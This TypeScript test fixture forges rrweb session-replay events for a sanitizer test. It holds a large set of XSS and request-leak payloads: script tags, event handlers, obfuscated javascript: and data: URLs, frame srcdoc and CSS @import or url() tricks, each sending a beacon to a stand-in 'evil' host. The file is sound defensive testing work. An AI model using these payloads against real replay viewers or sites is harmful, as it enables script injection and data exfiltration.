// Events as somebody could forge them who knows a public site key, each tried on one page. Whatever one
// of them could reach lies below `evil`, followed by its own number, so that a request tells its origin.

export type Attributes = Record<string, unknown>;

export interface ForgedNode {
	type: number;
	id?: number;
	tagName?: unknown;
	attributes?: unknown;
	childNodes?: unknown;
	textContent?: unknown;
	[name: string]: unknown;
}

export interface HostileCase {
	name: string;
	events: unknown[];
	/**
	 * Unscrubbed and without a policy it sends a request from a sandboxed frame, in Chromium. What does
	 * not may in another browser, or in a frame with another sandbox.
	 */
	reaches: boolean;
	/** Nothing in it says anything alone: stopping it is left to the policy of the page. */
	leftToPolicy: boolean;
}

export const START = 1_795_000_000_000;
/** Ids of the page that every case is tried on. */
export const IDS = { body: 4, style: 10, css: 11, img: 12, link: 13, frame: 14, svg: 15, use: 16 };
const MORE_IDS = {
	image: 17,
	anchor: 18,
	canvas: 19,
	video: 21,
	host: 22,
	fontText: 23,
	animate: 24,
};
const PAGE = { ...IDS, ...MORE_IDS };

let nextId = 100;

export function element(
	tagName: unknown,
	attributes: unknown = {},
	childNodes: unknown = [],
): ForgedNode {
	return { type: 2, id: nextId++, tagName, attributes, childNodes };
}

export function text(textContent: unknown): ForgedNode {
	return { type: 3, id: nextId++, textContent };
}

const svg = (tagName: string, attributes: Attributes = {}, children: unknown[] = []) => ({
	...element(tagName, attributes, children),
	isSVG: true,
});
const sheet = (css: unknown) => element("style", {}, [text(css)]);

/** Meta and a full snapshot with more nodes in its body and head. */
export function snapshotWith(inBody: unknown[] = [], inHead: unknown[] = []): unknown[] {
	const known = (id: number, node: ForgedNode) => ({ ...node, id });
	const body = [
		known(
			PAGE.fontText,
			element("p", { id: "base", style: "font-family: forged" }, [text("base")]),
		),
		known(PAGE.img, element("img", { alt: "" })),
		known(PAGE.link, element("link", { rel: "stylesheet" })),
		known(PAGE.frame, element("iframe")),
		known(
			PAGE.svg,
			svg("svg", { width: "10", height: "10" }, [
				known(PAGE.use, svg("use")),
				known(
					PAGE.image,
					svg("image", { width: "9", height: "9" }, [known(PAGE.animate, svg("set"))]),
				),
			]),
		),
		known(PAGE.anchor, element("a", { href: "https://shop.example/" }, [text("link")])),
		known(PAGE.canvas, element("canvas")),
		known(PAGE.video, element("video")),
		{ ...known(PAGE.host, element("div")), isShadowHost: true },
		...inBody,
	];
	const style = {
		...element("style", {}, [known(PAGE.css, text("p { color: red }"))]),
		id: PAGE.style,
	};
	const html = element("html", {}, [
		{ ...element("head", {}, [style, ...inHead]), id: 3 },
		{ ...element("body", {}, body), id: PAGE.body },
	]);
	return [
		{ type: 4, timestamp: START, data: { href: "https://shop.example/", width: 800, height: 600 } },
		{
			...{ type: 2, timestamp: START + 1 },
			data: { node: { type: 0, id: 1, childNodes: [html] }, initialOffset: { left: 0, top: 0 } },
		},
	];
}

const increment = (data: Attributes) => ({ type: 3, timestamp: START + 10, data });
const mutation = (data: Attributes) =>
	increment({ source: 0, adds: [], removes: [], texts: [], attributes: [], ...data });
const changed = (id: number, attributes: unknown) => mutation({ attributes: [{ id, attributes }] });
const added = (parentId: number, ...nodes: unknown[]) =>
	mutation({ adds: nodes.map((node) => ({ parentId, nextId: null, node })) });

/**
 * @param evil origin that must never be asked for anything
 * @returns each case with its whole recording
 */
export function hostileCases(evil: string): HostileCase[] {
	const cases: HostileCase[] = [];
	const push = (
		name: string,
		make: (url: string, run: string) => unknown[],
		flags: Partial<HostileCase>,
	) => {
		const url = `${evil}/${cases.length}`;
		const run = `top.__ran=(top.__ran||[]).concat(${cases.length});alert(${cases.length});new Image().src='${url}'`;
		cases.push({ name, events: make(url, run), reaches: false, leftToPolicy: false, ...flags });
	};
	type Make<T> = (url: string, run: string) => T;
	const inBody = (name: string, make: Make<unknown>, reaches = false) =>
		push(name, (url, run) => snapshotWith([make(url, run)].flat()), { reaches });
	const inHead = (name: string, make: Make<unknown>, reaches = false) =>
		push(name, (url, run) => snapshotWith([], [make(url, run)].flat()), { reaches });
	const later = (
		name: string,
		make: Make<unknown>,
		flags: Partial<HostileCase> | boolean = false,
	) =>
		push(name, (url, run) => [...snapshotWith(), ...[make(url, run)].flat()], {
			...(typeof flags === "boolean" ? { reaches: flags } : flags),
		});
	const css = (name: string, make: Make<unknown>, reaches = false) =>
		inHead(`a sheet with ${name}`, (url, run) => sheet(make(url, run)), reaches);

	// Scripts.
	inBody("a script with code", (_, run) => element("script", {}, [text(run)]));
	inBody("a script with a source", (url) => element("script", { src: url }));
	inBody("a script in capitals", (url, run) => element("SCRIPT", { src: url }, [text(run)]));
	inBody("a script of SVG", (url, run) => svg("script", { href: url }, [text(run)]));
	inBody("a script with a prefix", (url, run) =>
		svg("svg:script", { "xlink:href": url }, [text(run)]),
	);
	inBody("a module and an import map", (url) => [
		element("script", { type: "importmap" }, [text(`{"imports":{"a":"${url}"}}`)]),
		element("script", { type: "speculationrules" }, [text(`{"prefetch":[{"urls":["${url}"]}]}`)]),
		element("link", { rel: "modulepreload", href: url }),
	]);
	later("an added script", (url, run) =>
		added(PAGE.body, element("script", { src: url }, [text(run)])),
	);
	inBody("handlers of events", (_, run) => [
		element("img", { src: "data:,", onerror: run, ONLOAD: run, onmouseover: run }),
		element("details", { open: "", ontoggle: run }),
		element("input", { autofocus: "", onfocus: run }),
		element("video", { onloadstart: run, src: "data:," }),
	]);
	later("handlers of events in changes", (_, run) =>
		changed(PAGE.img, { src: "data:,", onerror: run, OnLoad: run }),
	);
	inBody("an animation that begins", (_, run) =>
		svg("svg", { onload: run }, [svg("animate", { onbegin: run })]),
	);

	// URLs that run.
	inBody("links that run", (_, run) =>
		[
			"javascript:",
			" javascript:",
			"java\nscript:",
			"JaVaScRiPt:",
			"\u0001javascript:",
			"java\tscript:",
			"vbscript:",
			"javascript\r:",
		].map((scheme) => element("a", { href: scheme + run }, [text("x")])),
	);
	inBody("a link to a document by value", (_, run) =>
		[
			"data:text/html,",
			"data:;base64,",
			"DATA:text/html;base64,",
			" data:image/svg+xml,",
			"d\nata:text/html,",
		].map((scheme) => element("a", { href: `${scheme}<script>${run}</script>` })),
	);
	inBody("a form that runs", (_, run) =>
		element("form", { action: `javascript:${run}` }, [
			element("button", { formaction: `javascript:${run}`, autofocus: "" }),
		]),
	);
	inBody("a link of SVG that runs", (_, run) =>
		svg("svg", {}, [svg("a", { "xlink:href": `javascript:${run}` })]),
	);
	later("a click by its name on a link", (url) => [
		changed(PAGE.anchor, { href: url }),
		added(PAGE.body, { ...element("a", { href: url }), id: 900 }),
		increment({ source: 2, type: "2", id: 900, x: 1, y: 1 }),
		increment({ source: 2, type: "2", id: PAGE.anchor, x: 1, y: 1 }),
	]);

	// Frames and plug-ins.
	inBody("a frame with a source", (url) => element("iframe", { src: url, SRC: url }), true);
	inBody(
		"a frame with a document",
		(url, run) =>
			element("iframe", {
				srcdoc: `<script>${run}</script><img src="${url}">`,
				SRCDOC: `<img src="${url}">`,
			}),
		true,
	);
	inBody("a frame that may run scripts", (_, run) =>
		element("iframe", {
			sandbox: "allow-scripts allow-same-origin",
			allow: "camera *",
			src: `javascript:${run}`,
		}),
	);
	later("the source of a frame in a change", (url) => changed(PAGE.frame, { src: url }), true);
	later(
		"the document of a frame in a change",
		(url) => changed(PAGE.frame, { srcdoc: `<img src="${url}">` }),
		true,
	);
	later(
		"a frame's document by value in a change",
		(url) =>
			changed(PAGE.frame, {
				src: `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="${url}"/></svg>`,
			}),
		true,
	);
	inBody(
		"plug-ins",
		(url) => [
			element("object", { data: url }, [element("param", { name: "movie", value: url })]),
			element("embed", { src: url }),
			element("applet", { code: url, archive: url, codebase: url }),
			element("portal", { src: url }),
			element("fencedframe", { src: url }),
		],
		true,
	);
	inBody(
		"a set of frames",
		(url) => element("frameset", {}, [element("frame", { src: url })]),
		true,
	);
	later(
		"a document inside a frame",
		(url, run) =>
			mutation({
				isAttachIframe: true,
				adds: [
					{
						...{ parentId: PAGE.frame, nextId: null },
						node: {
							...{ type: 0, id: 800 },
							childNodes: [
								element("html", {}, [
									element("head"),
									element("body", {}, [
										element("img", { src: url, onerror: run }),
										element("script", {}, [text(run)]),
									]),
								]),
							],
						},
					},
				],
			}),
		true,
	);

	// The head.
	inHead("a refresh", (url) => [
		element("meta", { "http-equiv": "refresh", content: `0;url=${url}` }),
		element("meta", { "HTTP-EQUIV": "refresh", content: `0;url=javascript:alert(1)` }),
	]);
	later("a refresh in a change", (url) => [
		added(3, { ...element("meta", { content: `0;url=${url}` }), id: 901 }),
		changed(901, { "http-equiv": "refresh" }),
	]);
	inHead(
		"a base for what is relative",
		(url) => [element("base", { href: `${url}/` }), element("img", { src: "relative" })],
		true,
	);
	inHead(
		"links that load",
		(url) =>
			[
				"stylesheet",
				"alternate stylesheet",
				"icon",
				"preload",
				"prefetch",
				"prerender",
				"modulepreload",
				"manifest",
				"preconnect",
				"dns-prefetch",
				"STYLESHEET",
			].map((rel) => element("link", { rel, href: url, as: "image", imagesrcset: `${url} 1x` })),
		true,
	);
	later("the address of a link in a change", (url) => changed(PAGE.link, { href: url }), true);
	later(
		"a link that becomes one by two changes",
		(url) => [
			added(3, { ...element("link"), id: 902 }),
			changed(902, { rel: "stylesheet" }),
			changed(902, { href: url }),
		],
		true,
	);
	inHead(
		"a link that is a sheet, with texts",
		(url) => {
			const css = `p { background: url("${url}") }`;
			return [
				element("link", { _cssText: css }),
				element("link", { _cssText: true }, [text(css)]),
				element("link", { _cssText: "p{}", rel: "stylesheet", href: url }, [text(""), text(css)]),
			];
		},
		true,
	);

	// Pictures, media and what else loads.
	inBody(
		"pictures",
		(url) => [
			element("img", { src: url }),
			element("img", { SRC: url }),
			element("img", { srcset: `${url} 1x, ${url} 2x` }),
			element("picture", {}, [
				element("source", { srcset: url }),
				element("img", { src: "data:," }),
			]),
			element("input", { type: "image", src: url }),
			element("body", { background: url }),
			element("table", { background: url }),
		],
		true,
	);
	inBody(
		"pictures whose source is a list",
		(url) => [element("img", { src: [url] }), element("img", { src: [[url]] })],
		true,
	);
	inBody(
		"media",
		(url) => [
			element("video", { src: url, poster: url, autoplay: "" }),
			element("audio", { src: url, preload: "auto" }),
			element("video", {}, [
				element("source", { src: url }),
				element("track", { src: url, default: "", kind: "captions" }),
			]),
		],
		true,
	);
	later("a picture in a change", (url) => changed(PAGE.img, { src: url }), true);
	later("a picture in a change in capitals", (url) => changed(PAGE.img, { SRC: url }), true);
	later("a set of pictures in a change", (url) => changed(PAGE.img, { srcset: `${url} 1x` }), true);
	later("a poster in a change", (url) => changed(PAGE.video, { poster: url }), true);
	later(
		"a relative picture in a change",
		(url) => changed(PAGE.img, { src: new URL(url).pathname.slice(1) }),
		true,
	);
	later("a picture named by its fragment", () => changed(PAGE.img, { src: "#leak" }));
	inBody("a canvas that shows a picture", (url) => element("canvas", { rr_dataURL: url }), true);
	inBody(
		"a picture in rrweb's own words",
		(url) => element("img", { rr_dataURL: url, src: "data:," }),
		true,
	);
	later(
		"a canvas that shows a picture in a change",
		(url) => changed(PAGE.canvas, { rr_dataURL: url }),
		true,
	);
	later("what was painted on a canvas", (url) =>
		increment({
			source: 9,
			id: PAGE.canvas,
			type: 0,
			commands: [{ property: "drawImage", args: [{ rr_type: "ImageElement", src: url }] }],
		}),
	);
	inBody("requests for statistics", (url) => [
		element("a", { href: "https://shop.example/", ping: url, attributionsrc: url }),
		element("img", { src: "data:image/gif;base64,R0lGODlhAQABAAAAACw=", attributionsrc: url }),
	]);

	// SVG.
	inBody(
		"pictures of SVG",
		(url) =>
			svg("svg", { width: "50", height: "50" }, [
				svg("image", { href: url, width: "9", height: "9" }),
				svg("image", { "xlink:href": url, width: "9", height: "9" }),
				svg("use", { href: `${url}#a` }),
				svg("filter", { id: "f" }, [
					svg("feimage", { href: url }),
					svg("feimage", { href: "" }),
					svg("feimage", { href: "#x" }),
				]),
				svg("rect", { width: "9", height: "9", filter: "url(#f)" }),
			]),
		true,
	);
	inBody(
		"attributes of SVG that are CSS",
		(url) =>
			svg("svg", { width: "50", height: "50" }, [
				...[
					"fill",
					"stroke",
					"filter",
					"mask",
					"clip-path",
					"marker-start",
					"marker",
					"cursor",
				].map((name) => svg("rect", { width: "9", height: "9", [name]: `url(${url}#a)` })),
				svg("path", { d: "M0 0L9 9", "marker-end": `u\\72l("${url}#a")` }),
			]),
		true,
	);
	inBody("an animation that sets an address", (url, run) =>
		svg("svg", { width: "50", height: "50" }, [
			svg("image", { width: "9", height: "9" }, [svg("set", { attributeName: "href", to: url })]),
			svg("image", { width: "9", height: "9" }, [
				svg("set", { attributeName: "xlink:href", to: url }),
			]),
			svg("a", {}, [
				svg("animate", { attributeName: "href", values: `javascript:${run};x`, dur: "1s" }),
			]),
			svg("rect", { width: "9", height: "9" }, [
				svg("set", { attributeName: "filter", to: `url(${url}#a)` }),
			]),
		]),
	);
	later("an animation that sets an address, in a change", (url) =>
		changed(PAGE.animate, { attributeName: "href", to: url }),
	);
	later(
		"the address of a picture of SVG in a change",
		(url) => [changed(PAGE.image, { href: url }), changed(PAGE.image, { "xlink:href": url })],
		true,
	);
	inBody(
		"HTML inside SVG",
		(url, run) =>
			svg("svg", {}, [
				svg("foreignobject", {}, [
					element("iframe", { src: url, onload: run }),
					element("img", { src: url }),
				]),
			]),
		true,
	);

	// Style sheets.
	css("an import", (url) => `@import "${url}"; p {}`, true);
	css("an import by url", (url) => `@import url(${url});`, true);
	css("an import with escapes", (url) => `@\\69mport "${url}";`, true);
	css("an import with a long escape", (url) => `@im\\000070 ort '${url}';`, true);
	css("an import behind a comment", (url) => `/* " */ @import/**/"${url}";`, true);
	css(
		"an import behind a string that ends with its line",
		(url) => `p::before{content:"x\n}\n@import "${url}";\np{background:url("${url}")}`,
		true,
	);
	css("a background", (url) => `p { background: url(${url}) }`, true);
	css("a background in quotes", (url) => `p { background: url( '${url}' ) }`, true);
	css("a background without an end", (url) => `p { background: url(${url}`, true);
	css("a background in capitals with escapes", (url) => `p { background: U\\52 L(${url}) }`, true);
	css(
		"a background whose address has an escape",
		(url) => `p { background: url(\\68ttp${url.slice(4)}) }`,
		true,
	);
	css(
		"a background behind a harmless one",
		(url) => `p { background: url(data:image/png,x) , url("${url}") }`,
		true,
	);
	css(
		"a background hidden in what looks like a comment",
		(url) => `p { background: url(data:image/png,/*), url(${url}) /**/ }`,
		true,
	);
	css(
		"a background hidden in what looks like a string",
		(url) => `p { --a: "\\"; background: url(${url}); --b: "\n; background: url(${url}) }`,
		true,
	);
	css(
		"a background behind a comment of HTML",
		(url) => `<!--p{background:url(${url})}-->p{background:<!--url(${url})}`,
		true,
	);
	css("a set of pictures", (url) => `p { background: image-set("${url}" 1x) }`, true);
	css(
		"a set of pictures with parentheses",
		(url) => `p { background: image-set(url(data:image/png,x) 9x, "${url}" 1x) }`,
		true,
	);
	css(
		"a set of pictures with a type",
		(url) => `p { background: image-set("${url}" type("image/png") 1x, url(${url}) 2x) }`,
		true,
	);
	css(
		"a set of pictures by a variable",
		(url) => `p { --u: "${url}"; background: image-set(var(--u) 1x) }`,
		true,
	);
	css(
		"a font",
		(url) => `@font-face { font-family: forged; src: url(${url}) format("woff2") }`,
		true,
	);
	css(
		"a picture in a cursor, a list, a border and a mask",
		(url) =>
			`p { cursor: url(${url}), auto; display: list-item; list-style-image: url(${url}); border-image: url(${url}) 1; mask: url(${url}) }`,
		true,
	);
	css(
		"an expression",
		(url, run) =>
			`p { width: expression(${run}); behavior: url(${url}); -moz-binding: url(${url}) }`,
	);
	css(
		"a namespace and a nested sheet",
		(url) =>
			`@media all { p { &:hover, & { background: url(${url}) } } } @supports (color:red) { p { mask: url(${url}) } }`,
		true,
	);
	inHead(
		"a sheet in two texts",
		(url) => element("style", {}, [text("@im"), text(`port "${url}";`)]),
		true,
	);
	inHead(
		"a sheet in two parts",
		(url) =>
			element("style", { _cssText: `@im/* rr_split */port "${url}";` }, [text(""), text("")]),
		true,
	);
	inHead(
		"a sheet with a part that joins a name",
		(url) => element("style", { _cssText: `p{background:red/* rr_split */url(${url})}` }),
		true,
	);
	inHead(
		"a sheet with a text behind its parts",
		(url) => element("style", { _cssText: "@im" }, [text(""), text(`port "${url}";`)]),
		true,
	);
	inHead(
		"a sheet whose text is a list",
		(url) => element("style", {}, [text([`@import "${url}";`])]),
		true,
	);
	inHead(
		"a sheet of SVG",
		(url) => svg("svg", {}, [svg("style", {}, [text(`@import "${url}";`)])]),
		true,
	);
	inHead("a sheet in a CDATA section", (url) =>
		element("style", {}, [{ type: 4, id: nextId++, textContent: `@import "${url}";` }]),
	);
	inBody(
		"an attribute of style",
		(url) => element("p", { style: `background: url(${url})`, STYLE: `mask: url(${url})` }),
		true,
	);
	later(
		"an attribute of style in a change",
		(url) => changed(PAGE.fontText, { style: `background: u\\rl(${url})` }),
		true,
	);
	later(
		"properties of style in a change",
		(url) =>
			changed(PAGE.fontText, {
				style: { background: `url(${url})`, "list-style-image": [`url("${url}")`, "important"] },
			}),
		true,
	);
	later(
		"the text of a sheet in a change",
		(url) =>
			mutation({
				texts: [{ id: PAGE.css, value: `@import "${url}"; p { background: url(${url}) }` }],
			}),
		true,
	);
	later(
		"the text of a sheet as a list",
		(url) => mutation({ texts: [{ id: PAGE.css, value: [`@import "${url}";`] }] }),
		true,
	);
	later(
		"an added text of a sheet",
		(url) => added(PAGE.style, text(`p { background: url(${url}) }`)),
		true,
	);
	later(
		"an added rule",
		(url) =>
			increment({
				source: 8,
				id: PAGE.style,
				adds: [{ rule: `p { background: url(${url}) }`, index: 0 }],
			}),
		true,
	);
	later(
		"a replaced sheet",
		(url) => [
			increment({
				source: 15,
				id: 1,
				styleIds: [1],
				styles: [{ styleId: 1, rules: [{ rule: "p {}" }] }],
			}),
			increment({ source: 8, styleId: 1, replaceSync: `p { background: url(${url}) }` }),
			increment({ source: 8, styleId: 1, replace: `p { mask: url(${url}) }` }),
		],
		true,
	);
	later(
		"a declaration",
		(url) =>
			increment({
				source: 13,
				id: PAGE.style,
				index: [0],
				set: { property: "background", value: `url(${url})` },
			}),
		true,
	);
	later(
		"an adopted sheet",
		(url) =>
			increment({
				source: 15,
				id: 1,
				styleIds: [7],
				styles: [{ styleId: 7, rules: [{ rule: `p { background: url(${url}) }`, index: 0 }] }],
			}),
		true,
	);
	later(
		"the text of a link as a sheet in a change",
		(url) => changed(PAGE.link, { _cssText: `@import "${url}"; p { background: url(${url}) }` }),
		true,
	);
	later(
		"a font of a script",
		(url) =>
			increment({ source: 10, family: "forged", fontSource: `url("${url}")`, descriptors: {} }),
		true,
	);
	later(
		"a sheet that two additions put together",
		(url) => [
			added(PAGE.body, { ...element("style"), id: 903 }),
			added(903, text("@im")),
			added(903, text(`port "${url}";`)),
		],
		{ reaches: true, leftToPolicy: true },
	);

	// Shapes.
	inBody("an attribute that is an object", (url) =>
		element("img", { src: { toString: 1 }, alt: {}, style: { background: url } }),
	);
	inBody("tags that are no names", (_, run) => [
		...[
			"",
			" ",
			"<script>",
			"div onload=x",
			"a/b",
			"__proto__",
			"constructor",
			"toString",
			"1a",
			"é",
		].map((tag) => element(tag)),
		...[null, 1, {}, ["script"], ["div"]].map((tag) => element(tag, { onclick: run })),
	]);
	inBody("elements that are no custom ones", () =>
		["div", "snag-inert", "script", "x-y"].map((tag) => ({ ...element(tag), isCustom: true })),
	);
	inBody("nodes that are no nodes", () => [
		null,
		1,
		"text",
		[],
		{},
		{ type: 2 },
		{ type: 3 },
		{ type: 99, childNodes: [] },
		element("p", null, null),
		element("p", [], {}),
		element("p", "x", "y"),
		{ ...text({ toString: 1 }) },
	]);
	inBody("names of attributes that are no names", (_, run) =>
		element("p", { "": "x", "a b": run, "a=b": run, "<": run, __proto__: run, "\u0000on": run }),
	);
	inBody("the state of media on what is none", () =>
		element("p", { rr_mediaState: "played", rr_width: {}, rr_height: [1] }),
	);
	later("changes that are no changes", (_, run) => [
		mutation({
			adds: null,
			removes: "x",
			texts: { 0: 1 },
			attributes: [
				null,
				1,
				{},
				{ id: PAGE.img },
				{ id: PAGE.img, attributes: run },
				{ id: PAGE.img, attributes: [run] },
			],
		}),
		mutation({
			adds: [
				{ parentId: PAGE.body, nextId: null },
				{ parentId: PAGE.body, nextId: null, node: null },
				null,
			],
			texts: [{ id: PAGE.css }, { id: PAGE.css, value: { toString: 1 } }],
		}),
		increment({ source: 8, id: PAGE.style, adds: { forEach: 1 }, removes: 5, replace: {} }),
		increment({ source: 13, id: PAGE.style, index: [0], set: { property: "color", value: {} } }),
		increment({ source: 15, id: 1, styleIds: [1], styles: {} }),
		increment({ source: 15, id: 1, styleIds: 5 }),
		increment({ source: 1, positions: [] }),
		increment({ source: 1, positions: null }),
		increment({ source: 6 }),
		increment({ source: 2, type: 99, id: PAGE.anchor }),
		increment({ source: 2, type: "click", id: PAGE.anchor }),
		increment({ source: 10, family: {}, fontSource: null }),
		increment({ source: 14 }),
		increment({ source: -1 }),
		increment({ source: 99 }),
		increment({ source: "0", adds: [] }),
	]);
	push(
		"events that are no events",
		() => [
			...[
				null,
				1,
				"x",
				[],
				{},
				{ type: "2" },
				{ type: 2, timestamp: null },
				{ type: 3, timestamp: START },
			],
			...[
				{ type: 2, timestamp: START, data: null },
				{ type: 2, timestamp: START, data: { node: [] } },
			],
			...[
				{ type: 2, timestamp: START, data: { node: element("script") } },
				{ type: 4, timestamp: START, data: {} },
			],
			...[
				{ type: 4, timestamp: START, data: { href: 5, width: "1", height: 1 } },
				{ type: 99, timestamp: START, data: {} },
			],
			...[
				{ type: 6, timestamp: START, data: { plugin: "x" } },
				{ type: 3, timestamp: -1, data: { source: 0 } },
			],
			...[
				{ type: 3, timestamp: Number.NaN, data: { source: 0 } },
				{ type: 3, timestamp: 1e300, data: { source: 0 } },
			],
			...[
				{ type: 3, timestamp: "1", data: { source: 0 } },
				{ type: 3.5, timestamp: START, data: {} },
			],
			...snapshotWith(),
			{ type: 2, timestamp: START + 2, data: { node: { type: 0, id: 1 } } },
			{
				...(snapshotWith()[1] as object),
				data: { ...(snapshotWith()[1] as { data: object }).data, initialOffset: "x" },
			},
			...snapshotWith(),
		],
		{},
	);
	return cases;
}
